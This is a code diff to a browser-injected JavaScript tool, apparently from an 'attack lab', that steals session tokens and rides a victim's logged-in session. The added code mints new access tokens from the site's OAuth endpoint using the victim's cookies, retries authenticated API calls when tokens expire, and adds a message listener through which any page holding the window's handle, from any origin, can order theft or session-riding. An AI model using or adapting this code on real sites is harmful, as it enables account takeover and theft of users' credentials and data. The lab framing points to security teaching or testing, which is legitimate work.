@@ -47,22 +47,42 @@
     return loot.sent
   }
 
-  /** The body half that was seen last. */
-  async function bodyHalf() {
+  /** The stored body half; in the session flow one that the script asks for, as the page does. */
+  async function bodyHalf(url) {
     await steal()
     const [record] = Object.values(loot.indexedDB).flat().filter((value) => value?.access)
-    return record?.access ?? loot.headers.at(-1)?.replace('Bearer ', '')
+    if (record) return record.access
+    const answer = await original(new URL('/iam/oauth/token', url), {
+      method: 'POST', credentials: 'include', body: new URLSearchParams({ grant_type: 'session' }),
+    })
+    return (await answer.json()).access_token
   }
 
-  /** The one that nothing stops: a call out of the live page, to which the browser adds the cookie half. */
+  /**
+   * The one that nothing stops: a call out of the live page, to which the browser adds the cookie half. A token that
+   * has expired is no obstacle either: the page will have another in a moment.
+   */
   async function ride(url = '/api/auth/me', options = {}) {
-    const token = await bodyHalf()
-    const answer = await original(url, {
-      ...options, credentials: 'include', headers: { ...options.headers, ...(token && { Authorization: `Bearer ${token}` }) },
-    })
-    return { status: answer.status, body: await answer.json().catch(() => null) }
+    for (let tries = 1; ; tries++) {
+      const token = await bodyHalf(new URL(url, location))
+      const answer = await window.fetch(url, {
+        ...options,
+        credentials: 'include',
+        headers: { ...options.headers, ...(token && { Authorization: `Bearer ${token}` }) },
+      })
+      const body = await answer.json().catch(() => null)
+      if (answer.status !== 401 || tries === 5) return { status: answer.status, body }
+      await new Promise((done) => setTimeout(done, 500))
+    }
   }
 
   window.lab = { loot, steal, send, ride }
+
+  /** At the beck and call of whoever has a handle of this window: pages of the attack lab. */
+  const orders = { steal, ride }
+  window.addEventListener('message', async ({ data, source, origin }) => {
+    const order = orders[data?.lab]
+    if (order) source.postMessage({ lab: data.id, result: await order(...data.given) }, origin)
+  })
   changed()
 })()
